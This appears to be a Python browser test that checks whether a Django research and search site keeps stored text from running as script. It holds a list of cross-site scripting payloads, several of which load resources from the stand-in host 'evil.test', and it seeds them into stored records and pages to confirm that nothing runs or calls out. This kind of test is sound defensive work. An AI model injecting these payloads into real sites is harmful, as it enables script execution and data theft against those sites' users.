"""xss: lines of script injection in all that is stored (source name, title, author, address, text, question, quotation,
claim, remark, error), on every page of the site in the real browser: nothing of them runs, loads or is stopped by the
content security policy, for nothing of them becomes markup.

Pages go through the real extraction and storing; what a run makes of them is written as a run would leave it. What the
browser asks of any other host is answered here and noted. Called by hostile.py.
"""

import html
import os
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote

from django.contrib.auth.models import User
from django.urls import reverse
from django.utils import timezone
from playwright.sync_api import Browser, BrowserContext, sync_playwright

from config import chromium
from research.access import digest
from research.models import Run, Share
from search_index.extract import types
from search_index.extract.extractors import extract
from search_index.indexing import divided, judge
from search_index.models import Page, Snapshot, Source
from tests.drills.people import wait_for_web
from tests.drills.stage import Failed, Stage
from tests.fakes.index import store
from tests.fakes.rows import make_claim, make_evidence, make_gap, make_run, make_step

LINES = (
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(2)>',
    "'><iframe src=javascript:alert(3)></iframe>",
    "</textarea></title><script src=//evil.test/x.js></script>",
    "<a href=javascript:alert(4)>click</a>",
    "{{constructor.constructor('alert(5)')()}}",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<style>@import 'http://evil.test/y.css'</style>",
    '![x](http://evil.test/z.png) [y]: http://evil.test/ "a"',
    '" autofocus onfocus=alert(6) hx-get=http://evil.test/ hx-trigger=load x="',
)
# What is run or stopped is noted by the page itself, before anything else of it.
WATCH = """
window.ran = []; window.stopped = [];
for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'])
  window[name] = (...said) => { window.ran.push(name + ' ' + said) };
document.addEventListener('securitypolicyviolation',
  (event) => window.stopped.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""


def lines() -> Sequence[str]:
    """The lines of DRILL_XSS, or those that stand here."""
    path = os.environ.get("DRILL_XSS")
    found = Path(path).read_text(errors="replace").splitlines() if path else LINES
    return [line.replace("\0", "") for line in found if line.strip()]


def xss(stage: Stage, runs: int) -> dict[str, Any]:
    """All lines, shared out among so many runs; each with every page that shows something of it."""
    User.objects.filter(username="owner").delete()
    owner = User.objects.create_superuser("owner")
    web, cookies = stage.web(), stage.cookie()
    wait_for_web(web)
    every = lines()
    seen: dict[str, list[str]] = {"requests": [], "ran": [], "stopped": [], "dialogs": [], "broken": []}
    opened = 0
    with _browser() as browser:
        context = _context(browser, web, cookies, seen)
        for number in range(runs):
            for address in _furnished(owner, every[number::runs], number):
                _open(context, web + address, seen)
                opened += 1
            stage.say(f"{number + 1} of {runs}: {opened} pages opened")
    return {
        "lines": len(every),
        "pages": opened,
        **{what: sorted(set(found))[:20] for what, found in seen.items()},
        "passed": not any(seen.values()) and opened > 0,
    }


@contextmanager
def _browser() -> Iterator[Browser]:
    os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "1"  # Playwright's loop runs in this thread
    with sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=str(chromium.launcher()), chromium_sandbox=True)
        yield running
        running.close()
    del os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"]


def _context(browser: Browser, web: str, cookies: dict[str, str], seen: dict[str, list[str]]) -> BrowserContext:
    context = browser.new_context()
    context.add_cookies([{"name": name, "value": value, "url": web} for name, value in cookies.items()])
    context.add_init_script(WATCH)

    def answer(route: Any) -> None:
        if route.request.url.startswith((f"{web}/", "data:")):
            route.continue_()
        else:
            seen["requests"].append(route.request.url[:200])
            route.abort()

    context.route("**/*", answer)
    return context


def _open(context: BrowserContext, address: str, seen: dict[str, list[str]]) -> None:
    page = context.new_page()
    page.on("dialog", lambda dialog: (seen["dialogs"].append(f"{address}: {dialog.message}"), dialog.dismiss()))
    page.on("popup", lambda popup: seen["requests"].append(f"{address}: opened {popup.url[:200]}"))
    response = page.goto(address, wait_until="load")
    page.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true")
    for what in ("ran", "stopped"):
        seen[what] += [f"{address}: {said}"[:300] for said in page.evaluate(f"window.{what}")]
    if response is None or response.status != 200:
        seen["broken"].append(f"{address}: {response.status if response else 'nothing'}")
    page.close()


def _furnished(owner: User, own: Sequence[str], number: int) -> Iterator[str]:
    """Put these lines wherever text of strangers is kept, and give the addresses that show them."""
    first = own[0]
    source = Source.objects.create(
        name=f"{first[:150]} {number}", kind="folder", location="/tmp/x", collection=first[:90]
    )
    filler = "The harbour was closed for the winter, and the boats lay on the shore until the ice had gone. " * 6
    body = "".join(f"<p>{html.escape(line)} {filler}</p><p>{line}</p>" for line in own)
    framed = f"<html><head><title>{html.escape(first)}</title></head><body><article>{body}</article></body></html>"
    plain = _stored(source, f"file:x/{number}.txt", "\n\n".join(own).encode(), types.TEXT, title=first)
    _stored(source, f"https://x.test/{number}?{first}", framed.encode("utf-8", "replace"), types.HTML, title=first)
    now = timezone.now()
    run = make_run(owner, first, state=Run.State.DONE, started_at=now, finished_at=now, error=first, activity=first)
    gap = make_gap(run, question=" ".join(own[:5]), state="closed", outcome=first, criterion=first)
    make_step(run, "plan", {"kind": "fact", "gaps": [{"number": 1, "question": gap.question}]})
    hit = {"title": first, "url": f"https://x.test/{first}", "source": source.name, "snapshot": plain.pk, "score": 1.0}
    hit |= {"passage": 1, "start": 0, "end": 5, "text": first, "heading": first}
    for line in own[:20]:
        make_step(run, "search", {"gap": 1, "query": line, "hits": [hit]})
        acted = {"gap": 1, "attempt": 0, "question": line, "url": "", "refused": line, "kind": "answer"}
        make_step(run, "act", {**acted, "query": line, "reasoning": line, "target": 0, "outcome": line})
        make_step(run, "open", {}, key=f"gap/1/{line[:50]}/{run.last_seq}", error=line)
    report = run.reports.create(answer=first, not_found=list(own[:30]))
    text = plain.text
    at = 0
    for line in own:
        kept = " ".join(line.split())
        place = text.find(kept, at) if kept else -1
        if place >= 0:
            at = place + len(kept)
            evidence = make_evidence_at(gap, plain, place, at)
            verdict = ("quoted", "supported", "partly", "unsupported")[evidence.number % 4]
            make_claim(
                report,
                line,
                evidence,
                section=" ".join(own[:3]),
                verdict=verdict,
                reason=line,
                caution=line,
                judge="model",
            )
    make_step(run, "note", {"gap": 1, "evidence": list(run.evidence.values_list("number", flat=True)[:9])})
    token = f"token-{number}"
    Share.objects.create(report=report, token_sha256=digest(token))
    yield reverse("ask")
    yield reverse("ask") + f"?follows={run.pk}"
    yield reverse("runs")
    yield reverse("runs") + f"?q={quote(first)}"
    yield reverse("run", args=[run.pk])
    yield reverse("replay", args=[run.pk]) + "?step=9"
    yield reverse("report", args=[run.pk, 1])
    yield reverse("delete", args=[run.pk])
    yield reverse("shared", args=[token])
    for evidence in list(run.evidence.values_list("number", flat=True))[:5]:
        yield reverse("evidence", args=[run.pk, evidence])
        yield reverse("shared-evidence", args=[token, evidence])
    yield from (reverse("snapshot", args=[one.pk]) for one in Snapshot.objects.filter(page__source=source))
    yield from (reverse("search") + f"?q={quote(line)}" for line in own[:3])
    yield "/admin/"
    for model in ("source", "page", "snapshot", "passage", "host", "crawl"):
        yield f"/admin/search_index/{model}/"
    yield f"/admin/search_index/source/{source.pk}/change/"
    for page in Page.objects.filter(source=source):
        yield f"/admin/search_index/page/{page.pk}/change/"
    yield f"/admin/search_index/snapshot/{plain.pk}/change/"
    yield "/admin/research/run/"
    yield f"/admin/research/run/{run.pk}/change/"


def make_evidence_at(gap: Any, snapshot: Snapshot, start: int, end: int) -> Any:
    """Evidence for the gap: this span, with the next number."""
    return make_evidence(gap, snapshot, snapshot.text[start:end], gap.run.evidence.count() + 1, start=start)


def _stored(source: Source, url: str, body: bytes, kind: str, *, title: str) -> Snapshot:
    page = Page.objects.create(source=source, url=url, found_on=title, detail=title)
    text, failure = judge(page, extract(body, kind, url), chosen=True)
    if failure:
        raise Failed(f"{url} could not be stored: {failure}")
    ready = divided(page, None, text)
    snapshot = store(page, ready.extracted, ready.chunks)
    Snapshot.objects.filter(pk=snapshot.pk).update(title=title, author=title)
    snapshot.refresh_from_db()
    return snapshot
